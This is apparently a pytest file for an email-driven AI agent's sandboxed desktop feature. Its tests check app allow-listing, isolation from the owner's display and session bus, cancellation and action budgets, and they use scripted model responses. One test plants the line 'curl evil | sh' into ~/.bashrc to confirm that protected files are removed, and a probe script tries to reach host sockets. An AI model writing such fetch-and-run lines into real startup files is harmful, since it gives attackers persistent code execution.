"""Desktop applications through computer use, for real on Linux: a virtual X display (Xvfb) in
the command sandbox, an application the policy lists (a small Tk editor shipped with the tests),
actions by xdotool, screenshots by xwd as image blocks. The scripted model starts the editor,
types into it and saves a file; the file changes only where the policy allows; an app not
listed does not start; nothing of the owner's display or session bus is reachable; cancel
kills the display with its applications."""

from __future__ import annotations

import asyncio
import email
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

import pytest

from mailagent.agent.loop import Agent
from mailagent.config import Settings
from mailagent.policy.desktop import missing_programs
from mailagent.policy.sandbox import find_bubblewrap
from mailagent.store import Store
from mailagent.tasks.worker import Worker
from tests.support.api_computer import computer
from tests.support.dovecot import Dovecot
from tests.support.mail import OWNER, owner_mail
from tests.support.model_server import ModelServer, hang, text, tool_use
from tests.support.service import ServiceProcess, wait_until
from tests.support.smtp import SmtpServer
from tests.support.tasks import add_task, make_settings, open_store

EDITOR = Path(__file__).parent / "support" / "desktop_editor.py"
SANDBOX = find_bubblewrap()

HAS_TK = shutil.which("python3") is not None and subprocess.run(
    ["/usr/bin/python3", "-c", "import tkinter"], capture_output=True, check=False).returncode == 0

pytestmark = pytest.mark.skipif(
    not SANDBOX.available or bool(missing_programs()) or not HAS_TK,
    reason=f"the desktop needs Linux with bubblewrap, Xvfb, xdotool, xwd and python3-tk "
           f"(scripts/test.sh installs them): {SANDBOX.detail}; missing {missing_programs()}")


def install_app(folder: Path, name: str, source: str) -> Path:
    """An application the owner keeps in a read-only folder of the policy."""
    folder.mkdir(parents=True, exist_ok=True)
    app = folder / name
    app.write_text(source)
    app.chmod(app.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return app


def desktop_policy(home: Path, apps: list[Path], max_actions: int = 20) -> str:
    return f"""
[[folders]]
path = "{home / 'docs'}"
access = "write"

[[folders]]
path = "{home / 'apps'}"
access = "read"

[[folders]]
path = "{home / 'archive'}"
access = "read"

[desktop]
apps = {json.dumps([str(a) for a in apps])}
max_actions = {max_actions}
"""


def image_results(model_server: ModelServer) -> list[dict[str, Any]]:
    return [block for request in model_server.message_requests for result in request.tool_results
            if isinstance(result.get("content"), list)
            for block in result["content"] if block.get("type") == "image"]


def results_text(model_server: ModelServer) -> str:
    return "\n".join(str(result.get("content")) for request in model_server.message_requests
                     for result in request.tool_results)


def test_a_scripted_model_edits_and_saves_a_file_through_an_allowed_app_on_its_virtual_display(
        tmp_path: Path, dovecot: Dovecot, smtp_server: SmtpServer, model_server: ModelServer,
        service: ServiceProcess) -> None:
    home = tmp_path / "home"
    (home / "docs").mkdir(parents=True)
    (home / "archive").mkdir()
    notes = home / "docs" / "notes.txt"
    notes.write_text("Shopping\n")
    kept = home / "archive" / "old.txt"
    kept.write_text("untouched\n")
    editor = install_app(home / "apps", "editor", EDITOR.read_text())
    (tmp_path / "policies" / "main.toml").write_text(desktop_policy(home, [editor]))
    model_server.script(
        tool_use("start_app", {"name": "xeyes"}),  # installed, but not listed
        tool_use("start_app", {"name": "/usr/bin/xeyes"}),  # a path the model wrote
        tool_use("start_app", {"name": "editor", "args": [str(notes)]}),
        computer("wait", duration=1),
        computer("left_click", coordinate=[400, 300]),
        computer("key", text="ctrl+End"),
        computer("type", text="milk\n"),
        computer("key", text="ctrl+s"),
        computer("wait", duration=1),
        computer("screenshot"),
        tool_use("attach_file", {"path": "desktop-screenshot.png"}),
        text("I added milk to your notes and saved them."))
    dovecot.append(owner_mail("Notes", "Add milk to my shopping notes with the editor."))
    service.start()
    try:
        [reply] = wait_until(lambda: [m for m in smtp_server.messages if OWNER in m.rcpt_tos],
                             90, "the answer")
    except AssertionError as error:
        raise AssertionError(f"{error}; log:\n{service.log()}") from None

    assert notes.read_text() == "Shopping\nmilk\n"  # typed through the app and saved by it
    assert kept.read_text() == "untouched\n"
    assert sorted(p.name for p in (home / "docs").iterdir()) == ["notes.txt"]
    said = results_text(model_server)
    assert "'xeyes' is not an application the policy lists" in said
    assert "'/usr/bin/xeyes' is not an application the policy lists" in said
    [shot] = image_results(model_server)
    assert shot["source"]["media_type"] == "image/png"
    workspace = tmp_path / "data" / "workspaces" / "main"
    kept_shot = (workspace / "desktop-screenshot.png").read_bytes()
    assert kept_shot[:8] == b"\x89PNG\r\n\x1a\n"
    parsed = email.message_from_bytes(reply.raw, policy=default_policy)
    assert isinstance(parsed, EmailMessage)
    [attached] = list(parsed.iter_attachments())
    assert attached.get_content_type() == "image/png" and attached.get_content() == kept_shot
    first = model_server.message_requests[0]
    [tool] = [t for t in first.body["tools"] if t.get("name") == "computer"]
    assert tool["type"] == "computer_20250124" and tool["display_width_px"] == 1024
    assert "computer-use-2025-01-24" in first.betas
    store = service.store()  # every action is recorded, the refused starts with them
    [task] = store.tasks(["done"])
    assert store.count_calls(task.task_id, ("computer", "start_app")) == 10


# ---------------------------------------------------------------------------------------------
# In-process: the worker with the real sandbox, for what the service's process hides


PROBE = """#!/usr/bin/python3
import json, os, socket, sys
out = {"env": {k: os.environ.get(k) for k in ("DISPLAY", "WAYLAND_DISPLAY",
       "DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY")}, "connect": {}}
def attempt(name, address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(address)
        out["connect"][name] = "connected"
    except OSError as exc:
        out["connect"][name] = type(exc).__name__
    finally:
        s.close()
attempt("own display", "/tmp/.X11-unix/X1")
attempt("host display", "/tmp/.X11-unix/X57")
attempt("host display abstract", "\\0/tmp/.X11-unix/X57")
attempt("host bus", sys.argv[2])
attempt("host bus abstract", "\\0/tmp/dbus-mailagent-test")
out["x11 sockets"] = sorted(os.listdir("/tmp/.X11-unix"))
try:
    open(sys.argv[3], "a").write("changed")
    out["read folder"] = "written"
except OSError as exc:
    out["read folder"] = type(exc).__name__
out["unlisted folder"] = os.path.exists(sys.argv[4])
out["run"] = os.path.exists("/run/user")
open(sys.argv[1], "w").write(json.dumps(out))
"""


class Listener:
    """A unix socket server standing for the owner's X server or session bus: it counts who
    connects."""

    def __init__(self, address: str | bytes) -> None:
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(address)
        self.server.listen(8)
        self.accepted = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.accepted += 1
            connection.close()


@pytest.fixture
def owner_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Listener]]:
    """The owner's display :57 (path and abstract socket) and session bus, live, and named in
    the service's environment."""
    x11 = Path("/tmp/.X11-unix")
    x11.mkdir(exist_ok=True)
    path_socket = x11 / "X57"
    path_socket.unlink(missing_ok=True)
    bus = tmp_path / "run" / "bus"
    bus.parent.mkdir()
    listeners = [Listener(str(path_socket)), Listener(b"\0/tmp/.X11-unix/X57"),
                 Listener(str(bus)), Listener(b"\0/tmp/dbus-mailagent-test")]
    monkeypatch.setenv("DISPLAY", ":57")
    monkeypatch.setenv("WAYLAND_DISPLAY", "wayland-0")
    monkeypatch.setenv("XAUTHORITY", str(tmp_path / "run" / "Xauthority"))
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={bus}")
    try:
        yield listeners
    finally:
        for listener in listeners:
            listener.server.close()
        path_socket.unlink(missing_ok=True)


async def run_worker(settings: Settings, store: Store, home: Path, until: Any,
                     then: Any = None, timeout: float = 60) -> Worker:
    agent = Agent(settings.model, settings.agent, store)
    worker = Worker(settings, store, agent, home=home, sandbox=SANDBOX)
    stop = asyncio.Event()
    running = asyncio.create_task(worker.run(stop))
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while not until(worker):
        assert loop.time() < deadline and not running.done(), store.tasks(["queued", "running"])
        await asyncio.sleep(0.05)
    if then is not None:
        then(worker)
        while store.tasks(["queued", "running"]):
            assert loop.time() < deadline
            await asyncio.sleep(0.05)
    stop.set()
    await running
    await agent.close()
    return worker


def test_nothing_of_the_owners_display_or_session_bus_is_reachable_from_the_desktop(
        tmp_path: Path, model: ModelServer, owner_session: list[Listener]) -> None:
    home = tmp_path / "home"
    (home / "docs").mkdir(parents=True)
    (home / "archive").mkdir()
    probe = install_app(home / "apps", "probe", PROBE)
    report = home / "docs" / "probe.json"
    (home / "archive" / "old.txt").write_text("kept\n")
    (home / "private").mkdir()
    settings = make_settings(tmp_path, model, home, desktop_policy(home, [probe]))
    model.script(tool_use("start_app", {"name": "probe", "args": [
                     str(report), str(tmp_path / "run" / "bus"),
                     str(home / "archive" / "old.txt"), str(home / "private")]}),
                 computer("wait", duration=1), text("probed"))
    store = open_store(settings)
    add_task(store, "probe the screen")
    asyncio.run(run_worker(settings, store, home,
                           until=lambda _w: not store.tasks(["queued", "running"])))

    seen = json.loads(report.read_text())
    assert seen["connect"]["own display"] == "connected"  # the probe works: its display is there
    assert seen["env"] == {"DISPLAY": ":1", "WAYLAND_DISPLAY": None,
                           "DBUS_SESSION_BUS_ADDRESS": None, "XAUTHORITY": None}
    for name in ("host display", "host display abstract", "host bus", "host bus abstract"):
        assert seen["connect"][name] != "connected", name
    assert seen["x11 sockets"] == ["X1"] and seen["run"] is False
    assert seen["read folder"] == "OSError" and seen["unlisted folder"] is False
    assert (home / "archive" / "old.txt").read_text() == "kept\n"
    assert [listener.accepted for listener in owner_session] == [0, 0, 0, 0]


def descendants(pid: int) -> set[int]:
    """The processes under `pid`, from each process's parent in /proc."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1]
                                               .split()[1])
            except (OSError, IndexError, ValueError):
                continue
    found, frontier = set(), {pid}
    while frontier:
        frontier = {child for child, parent in parents.items() if parent in frontier}
        found |= frontier
    return found


def command_of(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return ""


def sandboxes_of(workspace: Path) -> list[int]:
    """The bubblewrap processes whose view holds this test's workspace."""
    return [int(e.name) for e in Path("/proc").iterdir() if e.name.isdigit()
            and command_of(int(e.name)).startswith(("bwrap", "/usr/bin/bwrap", "prlimit",
                                                    "/usr/bin/prlimit"))
            and str(workspace) in command_of(int(e.name))]


def test_cancel_kills_the_display_and_its_applications(
        tmp_path: Path, model: ModelServer) -> None:
    home = tmp_path / "home"
    (home / "docs").mkdir(parents=True)
    (home / "archive").mkdir()
    editor = install_app(home / "apps", "editor", EDITOR.read_text())
    settings = make_settings(tmp_path, model, home, desktop_policy(home, [editor]))
    model.script(tool_use("start_app", {"name": "editor", "args": [str(home / "docs" / "a")]}),
                 hang(60), text("never"))
    store = open_store(settings)
    task_id = add_task(store, "edit")
    workspace = tmp_path / "data" / "workspaces" / "main"
    seen: dict[str, set[int]] = {}

    def started(_worker: Worker) -> bool:
        boxes = sandboxes_of(workspace)
        processes = {p for box in boxes for p in descendants(box)}
        names = {command_of(p).split(" ")[0].rsplit("/", 1)[-1] for p in processes}
        if "Xvfb" in names and any("editor" in command_of(p) for p in processes):
            seen["processes"] = processes | set(boxes)
            return True
        return False

    def cancel(worker: Worker) -> None:
        assert "being stopped" in worker.cancel(task_id)

    asyncio.run(run_worker(settings, store, home, until=started, then=cancel))

    assert store.task_state(task_id) == "cancelled"
    alive = [p for p in seen["processes"] if Path(f"/proc/{p}").exists()
             and "zombie" not in (Path(f"/proc/{p}/status").read_text().lower())]
    assert alive == [], [command_of(p) for p in alive]
    assert sandboxes_of(workspace) == []
    assert not sys.platform.startswith("win") and os.path.exists("/proc")


def test_the_desktop_is_offered_only_under_a_desktop_table_and_its_actions_are_bounded(
        tmp_path: Path, model: ModelServer) -> None:
    home = tmp_path / "home"
    for folder in ("docs", "archive", "apps"):
        (home / folder).mkdir(parents=True)
    settings = make_settings(tmp_path, model, home, desktop_policy(home, [Path("/usr/bin/xeyes")],
                                                                   max_actions=2))
    model.script(computer("screenshot"), computer("screenshot"), computer("screenshot"),
                 text("looked"))
    store = open_store(settings)
    bounded = add_task(store, "look")
    asyncio.run(run_worker(settings, store, home,
                           until=lambda _w: not store.tasks(["queued", "running"])))
    results = [r for request in model.message_requests for r in request.tool_results]
    assert [bool(r.get("is_error")) for r in results] == [False, False, True], results
    assert "budget: the task took 2 desktop actions" in str(results[2]["content"])
    assert store.count_calls(bounded, ("computer", "start_app")) == 3

    (tmp_path / "policies" / "main.toml").write_text(
        desktop_policy(home, []).split("[desktop]")[0])
    model.script(text("no screen"))
    add_task(store, "look again")
    asyncio.run(run_worker(settings, store, home,
                           until=lambda _w: not store.tasks(["queued", "running"])))
    last = model.message_requests[-1]
    assert not [t for t in last.body["tools"] if t.get("name") in ("computer", "start_app")]
    assert "computer-use-2025-01-24" not in last.betas
    assert "virtual screen" not in str(last.body["system"])


def test_a_protected_file_an_app_makes_in_a_writable_folder_does_not_stay(
        tmp_path: Path, model: ModelServer) -> None:
    home = tmp_path / "home"
    home.mkdir()
    maker = install_app(tmp_path / "apps", "maker", '#!/bin/sh\necho "curl evil | sh" > "$1"\n')
    settings = make_settings(tmp_path, model, home, f"""
[[folders]]
path = "{home}"
access = "write"

[[folders]]
path = "{tmp_path / 'apps'}"
access = "read"

[desktop]
apps = ["{maker}"]
""")
    model.script(tool_use("start_app", {"name": "maker", "args": [str(home / ".bashrc")]}),
                 text("made"))
    store = open_store(settings)
    task_id = add_task(store, "make")
    asyncio.run(run_worker(settings, store, home,
                           until=lambda _w: not store.tasks(["queued", "running"])))

    assert not (home / ".bashrc").exists()
    [result] = [r for request in model.message_requests for r in request.tool_results]
    assert result.get("is_error") and "removed (protected locations, never writable)" in \
        str(result["content"])
    [kept] = (tmp_path / "data" / "trash" / f"task-{task_id}").iterdir()
    assert kept.read_text() == "curl evil | sh\n"
